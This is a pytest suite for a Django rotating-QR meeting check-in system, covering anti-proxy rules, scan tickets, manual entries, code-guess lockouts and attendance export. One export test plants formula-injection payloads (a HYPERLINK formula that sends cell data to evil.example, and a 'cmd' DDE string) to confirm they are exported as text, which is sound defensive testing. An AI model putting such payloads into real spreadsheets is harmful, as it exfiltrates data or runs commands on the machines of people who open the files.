"""Rotating-QR check-in: the code, the rules against proxy sign-in, manual entries, attendance."""

import datetime as dt
import io
import threading

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.db import connections
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from conftest import PASSWORD
from learntrace.checkin import services, tasks, typed_codes
from learntrace.checkin.models import Attendance, CheckInEvent, CodeGuesses, Meeting, ScanTicket
from learntrace.checkin.services import IN, OUT, CheckInRefused
from learntrace.records.models import Completion, CreditedTime

START = dt.datetime(2026, 3, 10, 9, 0, tzinfo=dt.UTC)
PNG = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
       "AAAABJRU5ErkJggg==")


def at(minutes: float) -> dt.datetime:
    return START + dt.timedelta(minutes=minutes)


@pytest.fixture
def meeting(org, catalog):
    item = Meeting.objects.create(course=catalog.meeting, title="Monthly management meeting", starts_at=START,
                                  ends_at=START + dt.timedelta(hours=2), roster=Meeting.Roster.PEOPLE)
    item.roster_people.set([org.head, org.learner])
    item.organisers.set([org.head])
    return item


def check_in(meeting, employee, when, **kwargs):
    defaults = {"mode": IN, "scanned_at": when, "via": "scan", "device_id": f"device-{employee.pk}", "now": when}
    defaults.update(kwargs)
    return services.scan(meeting=meeting, employee=employee, **defaults)


def refused(reason, call):
    with pytest.raises(CheckInRefused) as caught:
        call()
    assert caught.value.reason == reason


def test_the_code_is_accepted_in_its_step_and_the_next_only(meeting):
    now = at(0)
    step = services.step_at(meeting, now)
    code = services.token(meeting, step)
    assert services.judge_scan(meeting, code, now) == IN
    assert services.judge_scan(meeting, code, now + dt.timedelta(seconds=meeting.rotation_seconds)) == IN
    two_steps_later = now + dt.timedelta(seconds=2 * meeting.rotation_seconds)
    refused("expired", lambda: services.judge_scan(meeting, code, two_steps_later))
    refused("invalid", lambda: services.judge_scan(meeting, "a" * 16, now))
    typed = services.short_code(meeting, step)
    assert services.judge_scan(meeting, typed, now, typed=True) == IN
    assert services.judge_scan(meeting, services.token(meeting, step, OUT), now) == OUT


def test_a_code_of_another_meeting_is_invalid(meeting, catalog):
    other = Meeting.objects.create(course=catalog.meeting, title="Other", starts_at=START, ends_at=at(60))
    step = services.step_at(meeting, at(0))
    refused("invalid", lambda: services.judge_scan(other, services.token(meeting, step), at(0)))


def test_the_step_boundary(meeting):
    boundary = dt.datetime.fromtimestamp(
        (int(at(0).timestamp()) // meeting.rotation_seconds + 1) * meeting.rotation_seconds, tz=dt.UTC)
    before = services.token(meeting, services.step_at(meeting, boundary - dt.timedelta(seconds=1)))
    assert services.judge_scan(meeting, before, boundary) == IN  # the previous step still counts
    assert services.step_at(meeting, boundary) == services.step_at(meeting, boundary - dt.timedelta(seconds=1)) + 1


def test_a_check_in_on_time_credits_the_meeting_and_completes_the_course(org, meeting, catalog):
    attendance = check_in(meeting, org.head, at(-5))
    assert attendance.status == Attendance.Status.ON_TIME and attendance.credited_seconds == 7200
    assert sum(CreditedTime.objects.filter(employee=org.head).values_list("seconds", flat=True)) == 7200
    assert Completion.objects.filter(employee=org.head, course=catalog.meeting).exists()
    assert check_in(meeting, org.head, at(1)).pk == attendance.pk  # scanning twice is harmless
    assert CreditedTime.objects.filter(employee=org.head).count() == 1


def test_the_window_and_the_late_threshold(org, meeting):
    refused("not_open", lambda: check_in(meeting, org.head, at(-16)))
    refused("closed", lambda: check_in(meeting, org.head, at(31)))
    assert check_in(meeting, org.head, at(6)).status == Attendance.Status.LATE
    assert check_in(meeting, org.learner, at(5)).status == Attendance.Status.ON_TIME


def test_only_the_roster_checks_in(org, meeting):
    refused("not_on_roster", lambda: check_in(meeting, org.outsider, at(0)))
    meeting.roster = Meeting.Roster.OPEN
    meeting.save()
    assert check_in(meeting, org.outsider, at(0)).pk


def test_one_phone_cannot_check_in_two_people(org, meeting):
    check_in(meeting, org.head, at(0), device_id="phone-1")
    refused("device_used", lambda: check_in(meeting, org.learner, at(1), device_id="phone-1"))
    event = CheckInEvent.objects.get(kind=CheckInEvent.Kind.REFUSED)
    assert event.employee == org.learner and event.reason == "device_used" and event.device_id == "phone-1"


def test_the_network_rule(org, meeting):
    meeting.allowed_networks = "10.8.0.0/16\n192.168.5.0/24"
    meeting.save()
    refused("wrong_network", lambda: check_in(meeting, org.head, at(0), ip="172.16.0.9"))
    refused("wrong_network", lambda: check_in(meeting, org.head, at(0), ip=None))
    assert check_in(meeting, org.head, at(0), ip="10.8.3.4").pk


def test_the_geofence(org, meeting):
    meeting.latitude, meeting.longitude, meeting.radius_m = 31.2304, 121.4737, 200
    meeting.save()
    refused("location_needed", lambda: check_in(meeting, org.head, at(0)))
    refused("outside_geofence", lambda: check_in(meeting, org.head, at(0), latitude=31.2404, longitude=121.4737))
    assert check_in(meeting, org.head, at(0), latitude=31.2310, longitude=121.4740).pk


def test_a_signature_is_required_when_asked(org, meeting):
    meeting.signature_required = True
    meeting.save()
    refused("signature_needed", lambda: check_in(meeting, org.head, at(0)))
    refused("signature_needed", lambda: check_in(meeting, org.head, at(0), signature="data:image/png;base64,AAAA"))
    assert check_in(meeting, org.head, at(0), signature=PNG).signature == PNG


def test_check_out_and_overlap_credit(org, meeting):
    meeting.checkout_required, meeting.credit = True, Meeting.Credit.OVERLAP
    meeting.save()
    refused("not_checked_in", lambda: check_in(meeting, org.head, at(100), mode=OUT))
    attendance = check_in(meeting, org.head, at(-10))
    assert attendance.credited_seconds == 0  # nothing until check-out
    attendance = check_in(meeting, org.head, at(90), mode=OUT)
    assert attendance.credited_seconds == 90 * 60  # from the start (not 10 minutes before) to the check-out


def test_manual_entries_need_a_reason_and_are_recorded_as_manual(org, meeting):
    with pytest.raises(ValidationError):
        services.manual(meeting=meeting, employee=org.learner, actor=org.admin.user, reason=" ",
                        kind=CheckInEvent.Kind.MANUAL_IN, now=at(0))
    attendance = services.manual(meeting=meeting, employee=org.learner, actor=org.admin.user,
                                 reason="Phone battery empty", kind=CheckInEvent.Kind.MANUAL_IN, at=at(2), now=at(3))
    assert attendance.method == "manual" and attendance.credited_seconds == 7200
    event = CheckInEvent.objects.get(kind=CheckInEvent.Kind.MANUAL_IN)
    assert event.actor == org.admin.user and event.note == "Phone battery empty"
    excused = services.manual(meeting=meeting, employee=org.head, actor=org.admin.user, reason="On duty in ICU",
                              kind=CheckInEvent.Kind.EXCUSED, now=at(3))
    assert excused.status == Attendance.Status.EXCUSED and excused.credited_seconds == 0


def test_a_ticket_keeps_the_moment_of_the_scan(meeting):
    secret = services.new_browser_secret()
    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
    assert services.open_ticket(key=key, browser_secret=secret, now=at(5)).scanned_at == at(0)
    refused("stale_scan", lambda: services.open_ticket(key=key, browser_secret=secret, now=at(10.01)))
    refused("invalid", lambda: services.open_ticket(key=key[:-3] + "abc", browser_secret=secret, now=at(5)))
    refused("invalid", lambda: services.open_ticket(key="é" * 43, browser_secret=secret, now=at(5)))
    assert ScanTicket.objects.get().key_hash != key and secret not in ScanTicket.objects.get().browser_hash


def test_a_ticket_is_for_the_browser_that_scanned(org, meeting):
    secret = services.new_browser_secret()
    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
    for other in (None, "", services.new_browser_secret(), secret[:-1], secret + "x", "é" * 43):
        refused("other_browser", lambda other=other: services.open_ticket(key=key, browser_secret=other,
                                                                           now=at(1)))
        refused("other_browser", lambda other=other: services.confirm_ticket(
            key=key, browser_secret=other, employee=org.learner, device_id="phone-c", now=at(1)))
    assert not Attendance.objects.exists()
    assert CheckInEvent.objects.filter(kind=CheckInEvent.Kind.REFUSED, reason="other_browser",
                                       employee=org.learner).count() == 6
    ticket, attendance = services.confirm_ticket(key=key, browser_secret=secret, employee=org.learner,
                                                 device_id="phone-a", now=at(2))
    assert attendance.checked_in_at == at(0) and ticket.used_by == org.learner


def test_a_ticket_is_used_once(org, meeting):
    secret = services.new_browser_secret()
    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
    services.confirm_ticket(key=key, browser_secret=secret, employee=org.learner, device_id="phone-a", now=at(1))
    refused("ticket_used", lambda: services.confirm_ticket(key=key, browser_secret=secret, employee=org.head,
                                                           device_id="phone-b", now=at(2)))
    refused("ticket_used", lambda: services.open_ticket(key=key, browser_secret=secret, now=at(2)))
    assert list(Attendance.objects.values_list("employee", flat=True)) == [org.learner.pk]
    assert ScanTicket.objects.get().used_at == at(1)


def test_a_refused_check_in_leaves_the_ticket_for_another_try(org, meeting):
    meeting.latitude, meeting.longitude, meeting.radius_m = 31.2304, 121.4737, 200
    meeting.save()
    secret = services.new_browser_secret()
    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
    refused("location_needed", lambda: services.confirm_ticket(key=key, browser_secret=secret,
                                                               employee=org.learner, device_id="p", now=at(1)))
    assert ScanTicket.objects.get().used_at is None
    _ticket, attendance = services.confirm_ticket(key=key, browser_secret=secret, employee=org.learner,
                                                  device_id="p", latitude=31.2305, longitude=121.4738, now=at(2))
    assert attendance.checked_in_at == at(0)


@pytest.mark.django_db(transaction=True)
def test_two_parallel_confirms_of_one_ticket_check_in_one_person(org, meeting):
    meeting.roster = Meeting.Roster.OPEN
    meeting.save()
    secret = services.new_browser_secret()
    key = services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan", browser_secret=secret)
    people = [org.learner, org.head, org.outsider, org.auditor]
    outcomes, start = {}, threading.Barrier(len(people))

    def confirm(person):
        try:
            start.wait()
            services.confirm_ticket(key=key, browser_secret=secret, employee=person, device_id=f"d{person.pk}",
                                    now=at(1))
            outcomes[person.pk] = "done"
        except CheckInRefused as refusal:
            outcomes[person.pk] = refusal.reason
        finally:
            connections.close_all()

    threads = [threading.Thread(target=confirm, args=(person,)) for person in people]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes.values()) == ["done", "ticket_used", "ticket_used", "ticket_used"]
    winner = next(pk for pk, outcome in outcomes.items() if outcome == "done")
    assert list(Attendance.objects.values_list("employee", flat=True)) == [winner]
    assert ScanTicket.objects.get().used_by_id == winner


def test_old_tickets_are_forgotten(meeting):
    secret = services.new_browser_secret()
    for minutes in (0, 60 * 24 + 1):
        services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(-minutes), via="scan", browser_secret=secret)
    assert services.forget_old_tickets(now=at(1)) == 1
    assert ScanTicket.objects.get().scanned_at == at(0)
    with time_machine.travel(at(60 * 24 + 1), tick=False):
        tasks.forget_old_tickets.call_local()  # what the worker runs every hour
    assert not ScanTicket.objects.exists()


# ---------------------------------------------------------------- through the pages


def test_scanning_before_logging_in_keeps_a_valid_scan_valid(org, client, meeting):
    client.cookies["django_language"] = "en"
    with time_machine.travel(at(29), tick=False):  # one minute before check-in closes
        code = services.current_codes(meeting, at(29))["token"]
        response = client.get(reverse("checkin:scan", args=[meeting.pk, code]))
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/?next=/checkin/t/")
        ticket_url = response["Location"].split("next=")[1]
    with time_machine.travel(at(33), tick=False):  # the login took four minutes: the window has closed
        client.force_login(org.learner.user)
        assert "Scanned at" in client.get(ticket_url).text
        result = client.post(ticket_url)
    assert 'data-outcome="done"' in result.text
    attendance = Attendance.objects.get(employee=org.learner)
    assert attendance.checked_in_at == at(29) and attendance.status == Attendance.Status.LATE


def test_an_old_code_is_refused_in_the_learners_language(org, client_for, meeting):
    old = services.token(meeting, services.step_at(meeting, at(0)))
    client = client_for(org.learner, language="zh-hans")
    with time_machine.travel(at(1), tick=False):
        response = client.get(reverse("checkin:scan", args=[meeting.pk, old]))
    assert 'data-reason="expired"' in response.text and "已过期" in response.text
    assert CheckInEvent.objects.get().reason == "expired"


def test_the_device_cookie_binds_a_phone(org, client, meeting):
    secret = services.new_browser_secret()
    client.cookies["learntrace_scan"] = secret
    with time_machine.travel(at(0), tick=False):
        first, second = (services.issue_ticket(meeting=meeting, mode=IN, scanned_at=at(0), via="scan",
                                               browser_secret=secret) for _ in range(2))
        client.force_login(org.head.user)
        client.post(reverse("checkin:ticket", args=[first]))
        client.force_login(org.learner.user)  # the same browser, another person
        response = client.post(reverse("checkin:ticket", args=[second]))
    assert 'data-reason="device_used"' in response.text
    assert not Attendance.objects.filter(employee=org.learner).exists()


def test_a_forwarded_link_checks_no_one_in(org, client, client_for, meeting):
    """A scans before logging in and sends the link on; C opens it 39 s later, logged in."""
    from django.test import Client

    scanner = Client()
    with time_machine.travel(at(0), tick=False):
        code = services.current_codes(meeting, at(0))["token"]
        response = scanner.get(reverse("checkin:scan", args=[meeting.pk, code]))
    ticket_url = response["Location"].split("next=")[1]
    cookie = response.cookies["learntrace_scan"]
    assert cookie["httponly"] and cookie["samesite"] == "Lax" and cookie["max-age"] == 600
    assert ScanTicket.objects.get().browser_hash != cookie.value

    receiver = client_for(org.learner, language="zh-hans")
    with time_machine.travel(at(0.65), tick=False):
        page = receiver.get(ticket_url)
        posted = receiver.post(ticket_url)
    assert 'data-reason="other_browser"' in page.text and "自己扫描屏幕上的二维码" in page.text
    assert 'data-reason="other_browser"' in posted.text
    assert not Attendance.objects.exists()
    assert CheckInEvent.objects.filter(reason="other_browser", employee=org.learner).count() == 2

    receiver.cookies["django_language"] = "en"
    with time_machine.travel(at(0.7), tick=False):
        english = receiver.get(ticket_url).text
    assert "a link sent on by someone else does not check you in" in english


def test_the_scan_survives_a_real_login_in_the_same_browser(org, client, meeting):
    with time_machine.travel(at(0), tick=False):
        code = services.current_codes(meeting, at(0))["token"]
        response = client.get(reverse("checkin:scan", args=[meeting.pk, code]))
        login = client.post(response["Location"], {"username": "learner", "password": PASSWORD})
        assert login.status_code == 302
        ticket_url = login["Location"]
        assert ticket_url.startswith("/checkin/t/")
    with time_machine.travel(at(2), tick=False):
        assert client.get(ticket_url).status_code == 200
        result = client.post(ticket_url)
        again = client.post(ticket_url)
    assert 'data-outcome="done"' in result.text and 'data-reason="ticket_used"' in again.text
    assert Attendance.objects.get(employee=org.learner).checked_in_at == at(0)


def test_typing_the_code(org, client_for, meeting):
    client = client_for(org.learner)
    with time_machine.travel(at(0), tick=False):
        code = services.current_codes(meeting, at(0))["code"]
        wrong = client.post(reverse("checkin:code"), {"meeting": meeting.pk, "code": "12345"})
        assert "six digits" in wrong.text
        response = client.post(reverse("checkin:code"), {"meeting": meeting.pk, "code": code})
        assert response.status_code == 302
        client.post(response["Location"])
    assert Attendance.objects.get(employee=org.learner).method == "code"


def test_the_projector_is_for_organisers_only(org, client_for, meeting):
    assert client_for(org.learner).get(reverse("checkin:projector", args=[meeting.pk])).status_code == 404
    assert client_for(org.auditor).get(reverse("checkin:projector", args=[meeting.pk])).status_code == 403
    page = client_for(org.head).get(reverse("checkin:projector", args=[meeting.pk]))  # a named organiser
    assert page.status_code == 200 and "<svg" in page.text and meeting.secret not in page.text
    assert client_for(org.admin).get(reverse("checkin:projector_state", args=[meeting.pk])).status_code == 200
    assert client_for(org.learner).get(reverse("checkin:meeting", args=[meeting.pk])).status_code == 404
    assert client_for(org.auditor).get(reverse("checkin:meeting", args=[meeting.pk])).status_code == 200
    assert client_for(org.auditor).post(reverse("checkin:manual", args=[meeting.pk]),
                                        {"employee_no": "E001", "kind": "manual_in", "reason": "x"}).status_code == 403


@pytest.mark.parametrize(("method", "name"), [("get", "meeting"), ("get", "projector"), ("get", "projector_state"),
                                              ("get", "export"), ("post", "manual"), ("post", "toggle_checkout")])
def test_a_meeting_one_may_not_see_answers_like_one_that_does_not_exist(org, client_for, meeting, method, name):
    for person in (org.learner, org.outsider):  # on the roster, and not
        client = client_for(person)
        assert getattr(client, method)(reverse(f"checkin:{name}", args=[meeting.pk])).status_code == 404
        assert getattr(client, method)(reverse(f"checkin:{name}", args=[meeting.pk + 1000])).status_code == 404
    assert Meeting.objects.get(pk=meeting.pk).checkout_open is False


def test_the_manual_form_requires_a_reason(org, client_for, meeting):
    client = client_for(org.head)
    client.post(reverse("checkin:manual", args=[meeting.pk]), {"employee_no": "E001", "kind": "manual_in",
                                                                "reason": ""})
    assert not Attendance.objects.exists()
    client.post(reverse("checkin:manual", args=[meeting.pk]), {"employee_no": "E001", "kind": "manual_in",
                                                                "reason": "Forgot the phone"})
    assert Attendance.objects.get().method == "manual"


def test_the_export_has_times_and_duration(org, client_for, meeting):
    meeting.checkout_required = True
    meeting.save()
    check_in(meeting, org.head, at(-3))
    check_in(meeting, org.head, at(100), mode=OUT)
    response = client_for(org.admin).get(reverse("checkin:export", args=[meeting.pk]))
    path = "/tmp/attendance-test.xlsx"
    with open(path, "wb") as handle:
        handle.write(response.content)
    rows = list(load_workbook(path, read_only=True).active.iter_rows(values_only=True))
    header, *people = rows
    assert header[6] == "check-out" and header[7] == "duration (minutes)"
    head_row = next(r for r in people if r[0] == org.head.employee_no)
    assert head_row[3] == "On time" and head_row[4] == "QR code" and head_row[7] == 103.0
    learner_row = next(r for r in people if r[0] == org.learner.employee_no)
    assert learner_row[3] == "Absent"


def test_bad_meeting_input_is_refused(org, client_for, catalog):
    response = client_for(org.admin).post(reverse("checkin:meeting_new"), {
        "course": catalog.meeting.pk, "title": "x", "starts_at": "2026-03-10T09:00", "ends_at": "2026-03-10T08:00",
        "roster": "people", "people": "NOBODY", "allowed_networks": "not-a-network", "latitude": "31.2",
        "opens_minutes_before": "15", "closes_minutes_after": "30", "late_after_minutes": "5",
        "credit": "scheduled", "rotation_seconds": "10",
    })
    assert response.status_code == 200
    for message in ("end after it starts", "NOBODY", "not an IP range", "latitude, a longitude and a radius"):
        assert message in response.text
    assert not Meeting.objects.exists()


def test_suspicious_patterns_are_listed(org, client_for, meeting):
    meeting.roster = Meeting.Roster.OPEN
    meeting.save()
    from conftest import make_employee

    people = [make_employee(f"P{i}", f"Person {i}", org.b) for i in range(5)]
    for i, person in enumerate(people):
        check_in(meeting, person, at(0) + dt.timedelta(seconds=3 * i), ip="10.0.0.7", device_id=f"d{i}")
    refused("device_used", lambda: check_in(meeting, org.head, at(1), device_id="d0"))
    with time_machine.travel(at(60), tick=False):
        page = client_for(org.auditor).get(reverse("checkin:suspicious")).text
    assert "10.0.0.7" in page and "device_used" in page
    assert "This phone has already checked in someone else" in page  # the reason in words
    assert client_for(org.learner).get(reverse("checkin:suspicious")).status_code == 403


def test_a_code_used_after_it_changed_from_elsewhere_is_listed(org, client_for, meeting):
    meeting.roster = Meeting.Roster.OPEN
    meeting.save()
    from conftest import make_employee

    room = [make_employee(f"R{i}", f"In the room {i}", org.b) for i in range(3)]
    for i, person in enumerate(room):
        check_in(meeting, person, at(0), ip=f"10.1.2.{i + 10}", device_id=f"r{i}")
    check_in(meeting, org.learner, at(0), ip="10.1.2.99", device_id="x1", previous_code=True)  # same room: fine
    check_in(meeting, org.head, at(0), ip="183.3.4.5", device_id="x2", previous_code=True)  # a photo sent home
    step = services.step_at(meeting, at(0))
    assert services.judge_scan(meeting, services.token(meeting, step - 1), at(0), detail=True) == (IN, True)
    with time_machine.travel(at(60), tick=False):
        page = client_for(org.admin).get(reverse("checkin:suspicious")).text
    listed = page.split('class="late-codes"')[1].split("</table>")[0]
    assert org.head.name in listed and org.learner.name not in listed


# ---------------------------------------------------------------- codes are ASCII


@pytest.mark.parametrize("presented", ["éé", "%C3%A9%C3%A9", "é" * 16, "ａ" * 16, "١" * 16, "A" * 17, ""])
def test_a_code_of_other_characters_is_invalid_not_an_error(meeting, presented):
    refused("invalid", lambda: services.judge_scan(meeting, presented, at(0)))
    refused("invalid", lambda: services.judge_scan(meeting, presented, at(0), typed=True))


def test_an_anonymous_scan_of_a_non_ascii_code_is_refused_in_words(org, client, meeting):
    client.cookies["django_language"] = "en"
    with time_machine.travel(at(0), tick=False):
        response = client.get(f"/checkin/s/{meeting.pk}/%C3%A9%C3%A9/")
    assert response.status_code == 200 and 'data-reason="invalid"' in response.text
    assert "This is not a valid check-in code." in response.text
    assert CheckInEvent.objects.get().reason == "invalid"


@pytest.mark.parametrize("digits", ["٠١٢٣٤٥٦٧٨٩", "۰۱۲۳۴۵۶۷۸۹", "²¹³⁴⁵⁶⁷⁸⁹⁰"])
def test_typed_digits_of_other_scripts_are_refused_in_words(org, client_for, meeting, digits):
    client = client_for(org.learner)
    with time_machine.travel(at(0), tick=False):
        code = services.current_codes(meeting, at(0))["code"]
        other = code.translate(str.maketrans("0123456789", digits))
        number = str(meeting.pk).translate(str.maketrans("0123456789", digits))
        response = client.post(reverse("checkin:code"), {"meeting": number, "code": other})
    assert response.status_code == 200
    assert "The code has six digits." in response.text and "The meeting number is a whole number" in response.text
    assert not Attendance.objects.exists()


def test_full_width_digits_from_a_phone_keyboard_are_read_as_digits(org, client_for, meeting):
    client = client_for(org.learner)
    full_width = str.maketrans("0123456789", "０１２３４５６７８９")
    with time_machine.travel(at(0), tick=False):
        code = services.current_codes(meeting, at(0))["code"]
        response = client.post(reverse("checkin:code"), {"meeting": str(meeting.pk).translate(full_width),
                                                         "code": " " + code.translate(full_width) + " "})
        assert response.status_code == 302
        client.post(response["Location"])
    assert Attendance.objects.get(employee=org.learner).method == "code"


# ---------------------------------------------------------------- the export


def test_the_export_keeps_formula_like_names_and_reasons_as_text(org, client_for, meeting):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    org.learner.name = formula
    org.learner.save()
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert services.manual(meeting=meeting, employee=org.learner, actor=org.admin.user,
                               reason=prefix + "cmd|' /C calc'!A0", kind=CheckInEvent.Kind.EXCUSED, now=at(0))
        response = client_for(org.admin).get(reverse("checkin:export", args=[meeting.pk]))
        sheet = load_workbook(io.BytesIO(response.content)).active
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == org.learner.employee_no)
        assert row[1].value == formula and row[1].data_type == "s"
        assert unescape(row[11].value) == prefix + "cmd|' /C calc'!A0" and row[11].data_type == "s"


# ---------------------------------------------------------------- typed codes are rate-limited


def wrong_codes(meeting, when, count):
    """Six-digit codes that are neither valid nor expired at `when` (so each is plainly "invalid")."""
    step = services.step_at(meeting, when)
    known = {services.short_code(meeting, s, m) for s in range(step - 362, step + 1) for m in (IN, OUT)}
    return [code for code in (f"{n:06d}" for n in range(0, 1_000_000, 7919)) if code not in known][:count]


def type_code(meeting, employee, code, when, ip="10.0.0.1"):
    return typed_codes.judge_typed_code(meeting=meeting, employee=employee, ip=ip, code=code, now=when)


def test_five_wrong_codes_lock_a_person_out_for_the_rest_of_the_window(org, meeting):
    right = services.current_codes(meeting, at(0))["code"]
    for code in wrong_codes(meeting, at(0), 5):
        refused("invalid", lambda code=code: type_code(meeting, org.learner, code, at(0)))
    with pytest.raises(CheckInRefused) as caught:
        type_code(meeting, org.learner, right, at(1))  # even the right code: the lockout holds
    assert caught.value.reason == "code_locked" and caught.value.until == at(15)
    with time_machine.travel(at(1), tick=False):
        assert caught.value.message == ("Too many wrong codes: you can type a code again in 14 minutes. "
                                        "Meanwhile, scan the QR code, or ask the organiser to check you in.")
    assert type_code(meeting, org.head, services.current_codes(meeting, at(1))["code"], at(1)) == (IN, False)
    later = at(15)
    assert type_code(meeting, org.learner, services.current_codes(meeting, later)["code"], later) == (IN, False)
    person = CodeGuesses.objects.get(scope=CodeGuesses.Scope.PERSON, employee=org.learner)
    assert (person.wrong_total, person.lockouts, person.failures, person.locked_until) == (5, 1, 0, at(15))
    assert list(CheckInEvent.objects.filter(employee=org.learner).values_list("reason", flat=True)
                .order_by("pk")) == ["invalid"] * 5 + ["code_locked"]


def test_right_codes_are_not_counted(org, meeting):
    for minute in range(12):
        now = at(minute / 6)
        assert type_code(meeting, org.learner, services.current_codes(meeting, now)["code"], now)[0] == IN
    assert set(CodeGuesses.objects.values_list("failures", "wrong_total")) == {(0, 0)}


def test_an_address_is_limited_across_people(org, meeting, settings):
    from conftest import make_employee

    meeting.roster = Meeting.Roster.OPEN
    meeting.save()
    people = [make_employee(f"G{i}", f"Guesser {i}", org.b) for i in range(6)]
    codes = iter(wrong_codes(meeting, at(0), 30))
    for person in people[:5]:
        for _ in range(4):
            refused("invalid", lambda person=person: type_code(meeting, person, next(codes), at(0), ip="10.9.9.9"))
    refused("code_locked", lambda: type_code(meeting, people[5], next(codes), at(0), ip="10.9.9.9"))
    refused("invalid", lambda: type_code(meeting, people[5], next(codes), at(0), ip="10.9.9.10"))
    address = CodeGuesses.objects.get(scope=CodeGuesses.Scope.ADDRESS, ip="10.9.9.9")
    assert (address.wrong_total, address.lockouts) == (20, 1)


def test_the_whole_meeting_is_limited_across_people_and_addresses(org, meeting, settings):
    settings.CHECKIN_CODE_MEETING_LIMIT = 4
    codes = iter(wrong_codes(meeting, at(0), 10))
    for index, person in enumerate([org.learner, org.learner, org.head, org.head]):
        refused("invalid", lambda person=person, ip=f"10.0.0.{index}": type_code(meeting, person, next(codes), at(0),
                                                                                 ip=ip))
    with pytest.raises(CheckInRefused) as caught:
        type_code(meeting, org.outsider, next(codes), at(5), ip="10.0.0.99")
    assert caught.value.reason == "meeting_code_locked"
    with time_machine.travel(at(14.5), tick=False):
        assert "typing a code works again in 1 minute." in caught.value.message
    # Someone stopped by the meeting's limit is not charged for it.
    assert not CodeGuesses.objects.filter(employee=org.outsider, wrong_total__gt=0).exists()


@pytest.mark.django_db(transaction=True)
def test_parallel_wrong_codes_cannot_pass_the_limit(org, meeting):
    codes = wrong_codes(meeting, at(0), 12)
    outcomes, start = [], threading.Barrier(len(codes))

    def guess(code):
        try:
            start.wait()
            type_code(meeting, org.learner, code, at(0))
        except CheckInRefused as refusal:
            outcomes.append(refusal.reason)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=guess, args=(code,)) for code in codes]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["code_locked"] * 7 + ["invalid"] * 5
    person = CodeGuesses.objects.get(scope=CodeGuesses.Scope.PERSON)
    assert (person.wrong_total, person.failures, person.lockouts) == (5, 5, 1)


def test_a_lockout_is_told_in_the_learners_language_and_shown_to_the_organiser(org, client_for, meeting):
    learner = client_for(org.learner, language="zh-hans")
    with time_machine.travel(at(0), tick=False):
        for code in wrong_codes(meeting, at(0), 5):
            page = learner.post(reverse("checkin:code"), {"meeting": meeting.pk, "code": code})
            assert 'data-reason="invalid"' in page.text
    with time_machine.travel(at(3), tick=False):
        right = services.current_codes(meeting, at(3))["code"]
        page = learner.post(reverse("checkin:code"), {"meeting": meeting.pk, "code": right})
    assert 'data-reason="code_locked"' in page.text and "12 分钟" in page.text
    assert not Attendance.objects.exists()
    with time_machine.travel(at(4), tick=False):
        detail = client_for(org.head).get(reverse("checkin:meeting", args=[meeting.pk])).text
    table = detail.split('class="card code-guesses"')[1].split("</table>")[0]
    person_row = table.split('data-scope="person"')[1].split("</tr>")[0]
    assert org.learner.name in person_row and '<td class="wrong">5</td>' in person_row
    assert '<td class="lockouts">1</td>' in person_row and "17:15:00" in person_row  # 09:15 UTC, in Shanghai
    meeting_row = table.split('data-scope="meeting"')[1].split("</tr>")[0]
    assert '<td class="wrong">5</td>' in meeting_row and '<td class="lockouts">0</td>' in meeting_row
